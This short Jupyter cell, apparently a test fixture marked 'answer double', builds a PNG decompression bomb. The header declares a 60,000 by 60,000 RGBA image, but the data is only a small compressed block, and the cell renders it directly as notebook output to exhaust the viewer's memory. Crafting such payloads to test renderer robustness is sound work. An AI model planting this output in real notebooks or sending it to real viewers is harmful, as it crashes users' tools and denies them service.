# %% answer double

import base64
import struct
import zlib

from IPython.display import display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


pixels = zlib.compress(bytes(1 << 20), 9)
bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0)) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
display({"image/png": base64.b64encode(bomb).decode()}, raw=True)
